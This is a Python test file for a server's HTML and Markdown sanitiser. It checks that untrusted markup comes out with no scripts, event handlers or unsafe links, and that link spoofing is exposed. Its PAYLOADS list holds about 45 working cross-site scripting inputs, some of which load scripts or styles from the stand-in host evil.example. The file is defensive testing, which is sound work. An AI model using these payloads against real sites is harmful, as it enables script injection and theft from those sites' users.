# SPDX-License-Identifier: Apache-2.0
"""HTML from strangers, after the gate."""

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

import tests.fuzzing  # noqa: F401
from server.text import plain, render, sanitise
from server.text.sanitiser import MAX_DEPTH, MAX_HTML, MAX_TAGS

REPOSITORY = Path(__file__).resolve().parents[2]
STATIC = REPOSITORY / "web/static"
FIXTURES = Path(os.environ.get("GUILDHALL_FIXTURES") or REPOSITORY.parent / "shared" / "fixtures")

KEPT = frozenset(
    {
        *("p", "br", "hr", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6"),
        *("table", "thead", "tbody", "tr", "th", "td"),
        *("a", "b", "code", "del", "em", "i", "img", "s", "span", "strong", "sub", "sup", "u"),
    }
)
ATTRIBUTES = frozenset({"href", "src", "alt", "title", "class", "rel", "align", "start"})
CLASSES = frozenset({"mention", "u-url", "h-card", "hashtag", "invisible", "ellipsis"})
INVISIBLE = '<span class="invisible">'
REL = 'rel="nofollow noopener ugc"'

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert"
    "(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:x>",
    "<p style='background:url(javascript:alert(1))' class='badge-official' id=x>x</p>",
    "<meta http-equiv=refresh content='0;url=javascript:x'><base href=//evil.example/><link rel=x>",
    "<style>@import '//evil.example';</style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<a href='x' onmouseover=alert(1)>x</a><p/onclick=alert(1)>x",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<div><svg></p><style><g title='</style><img src onerror=alert(1)>'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    '[x](https://a.example/"onmouseover="alert(1))',
    '![x](https://a.example/" "t\\" onerror=\\"alert(1)")',
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
]


def elements(markup: str) -> list[Element]:
    """What a browser makes of the markup."""
    tree = html5lib.parseFragment(markup, namespaceHTMLElements=False)
    return [
        element
        for element in tree.iter()
        if element is not tree and element.tag != "DOCUMENT_FRAGMENT"
    ]


def active(markup: str) -> list[str]:
    """What is in the markup that must not be."""
    found = []
    for element in elements(markup):
        if element.tag not in KEPT:
            found.append(f"<{element.tag}>")
        for name, value in element.items():
            if name not in ATTRIBUTES:
                found.append(f"{element.tag} {name}")
            elif name == "class" and not set(value.split()) <= CLASSES:
                found.append(f"class {value}")
            elif name in {"href", "src"} and not value.lower().startswith(
                ("http://", "https://", "mailto:")
            ):
                found.append(f"{name} {value}")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_XSS_01_03_13_no_payload_survives_the_gate(payload: str) -> None:
    assert active(sanitise(payload)) == []
    assert active(sanitise(f"<table><tr><td>{payload}</td></tr></table>")) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_XSS_01_02_no_payload_survives_as_markdown(payload: str) -> None:
    assert active(render(payload)) == []
    assert active(render(f"> - {payload}\n\n{payload}")) == []


def test_XSS_13_nothing_of_what_our_own_pages_are_made_of_can_be_put_on() -> None:
    """Whatever class, style, role or mark our stylesheet and scripts know, no text carries it."""
    sheets = "".join(path.read_text("utf-8") for path in STATIC.glob("*.css"))
    known = set(re.findall(r"\.(-?[a-z][\w-]*)", sheets)) - CLASSES
    assert len(known) > 50
    marks = 'style="position:fixed" role="alert" aria-label="Staff" data-author="sam" id="main"'
    for name in (" ".join(sorted(known)), *sorted(known)):
        assert sanitise(f'<span class="{name}" {marks}>x</span>') == "<span>x</span>"


def test_the_search_for_active_parts_finds_them() -> None:
    markup = '<b onclick=x><script></script><a href="javascript:x" class="badge">'
    assert active(markup) == ["b onclick", "<script>", "href javascript:x", "class badge"]


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<h1 class=x>A</h1><h2>B</h2><h4 id=y>C</h4>", "<h3>A</h3><h3>B</h3><h4>C</h4>"),
        ("<div>a</div><div>b</div>", "a<br>b<br>"),
        ("<div><p>a</p></div>", "<p>a</p>"),
        (
            '<a href="https://b.example/" target=_blank>b</a>',
            f'<a href="https://b.example/" {REL}>b</a>',
        ),
        ('<a href="//b.example/">b</a><a href="/x">c</a>', f"<a {REL}>b</a><a {REL}>c</a>"),
        ('<img src="/x" alt="y"><img src="mailto:a@b">', '<img alt="y"><img>'),
        (
            '<span class="h-card staff">x</span><span class="staff">y</span>',
            '<span class="h-card">x</span><span>y</span>',
        ),
        (
            "<ol start=3 type=a><li>x</ol><ol start=x><li>y</ol>",
            '<ol start="3"><li>x</li></ol><ol><li>y</li></ol>',
        ),
        ("<pre>\n\n x</pre>", "<pre> x</pre>"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("\ud800a\x00", "a"),
        ("<math><mi>x</mi></math>", "x"),
    ],
)
def test_what_the_gate_makes_of(markup: str, expected: str) -> None:
    assert sanitise(markup) == expected


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://bank.example/pay", "https://bank.example/pay (evil.example:8)"),
        ("see bank.gov", "see bank.gov (evil.example:8)"),
        (f"{INVISIBLE}https://evil.example/</span>bank.gov", "bank.gov (evil.example:8)"),
        ("https://evil.example@bank.gov", "https://evil.example@bank.gov (evil.example:8)"),
        ("https://www.evil.example/x", "https://www.evil.example/x"),
        ("click here", "click here"),
        ("@ana@bank.gov", "@ana@bank.gov"),
        ("version 1.2 of form.pdf", "version 1.2 of form.pdf"),
    ],
)
@pytest.mark.parametrize("href", ["https://evil.example:8/x", r"https:\\evil.example:8\@bank.gov"])
def test_XSS_10_a_link_that_names_another_host_shows_its_own(
    href: str, text: str, shown: str
) -> None:
    markup = f"<a href='{href}' rel='opener' target=_blank>{text}</a>"
    for clean in (sanitise(markup), render(f"[{text}](https://evil.example:8/x)")):
        assert REL in clean
        assert "target" not in clean
    assert plain(sanitise(markup)).endswith(shown)


def depth(element: Element) -> int:
    return 1 + max(map(depth, element), default=0)


@pytest.mark.parametrize(
    "markup",
    [
        "<b>" * 20_000,
        "<blockquote>" * 15_000,
        "<b><table></b></table>" * 9_000,
        "<b><!--</b>-->" * 10_000,
        "<ul><li>" * 20_000,
        "<b x='" + "<i>" * 20_000,
    ],
)
def test_nesting_is_cut_before_the_parser_sees_it(markup: str) -> None:
    clean = sanitise(markup + "end")
    assert depth(html5lib.parseFragment(clean, namespaceHTMLElements=False)) <= MAX_DEPTH + 4
    assert len(clean) <= MAX_HTML


def test_unclosed_items_are_neighbours_and_not_nested() -> None:
    clean = sanitise("<ul>" + "<li>x" * 200 + "</ul><table>" + "<tr><td>x<td>y" * 200)
    assert clean.count("<li>x</li>") == 200
    assert clean.count("<tr><td>x</td><td>y</td></tr>") == 200


def test_tags_past_the_limit_become_text() -> None:
    clean = sanitise("<i>x</i>" * (MAX_TAGS + 1))
    assert clean.count("<i>") == MAX_TAGS
    assert clean.endswith("</i>x")


def test_formatting_does_not_multiply() -> None:
    markup = "".join(f"<b title={n}>" for n in range(50)) + "<p>x" * 5_000
    assert len(sanitise(markup)) < 2 * len(markup)
    markup = "<p>" + markup + "<table>" + "<b>" * 50 + "x<tr></tr>" * 5_000
    assert len(sanitise(markup)) < MAX_DEPTH * MAX_TAGS


def test_input_past_the_limit_is_cut() -> None:
    assert sanitise("x" * (MAX_HTML + 1)) == "x" * MAX_HTML


TAGS = [*sorted(KEPT), "div", "script", "style", "svg", "math", "textarea", "template", "h1", "x"]
PIECES = st.one_of(
    st.sampled_from([f"<{tag}>" for tag in TAGS] + [f"</{tag}>" for tag in TAGS]),
    st.sampled_from(PAYLOADS),
    st.sampled_from(["<!--", "-->", "&lt;", "&#60;", '"', "'", "<", ">", "\n", " ", "x", "a.gov"]),
    st.sampled_from(['<a href="https://b.example/">', '<span class="invisible">', "<p title='"]),
    st.text(max_size=8),
)


@given(st.lists(PIECES, max_size=25).map("".join))
def test_the_gate_passes_nothing_active_and_its_own_output_unchanged(markup: str) -> None:
    clean = sanitise(markup)
    assert active(clean) == []
    assert sanitise(clean) == clean


def contents(value: Any) -> Iterator[str]:
    """Every text that may be HTML in a JSON value."""
    if isinstance(value, dict):
        for key, inner in value.items():
            if key in {"content", "summary", "name"} and isinstance(inner, str):
                yield inner
            else:
                yield from contents(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from contents(inner)


def letters(markup: str) -> str:
    """The text of HTML without spaces and without the hosts the gate adds to links."""
    return re.sub(r"\([\w.:-]+\)|\s", "", plain(markup))


def test_payloads_of_real_servers_pass_and_keep_their_text() -> None:
    if not FIXTURES.is_dir():
        pytest.skip(f"no fixtures at {FIXTURES}")
    read = 0
    for path in sorted(FIXTURES.rglob("*.json")):
        for markup in contents(json.loads(path.read_text("utf-8"))):
            read += 1
            clean = sanitise(markup)
            assert active(clean) == [], path
            assert sanitise(clean) == clean, path
            assert letters(clean) == letters(markup), path
    print(f"read {read} texts")
    assert read
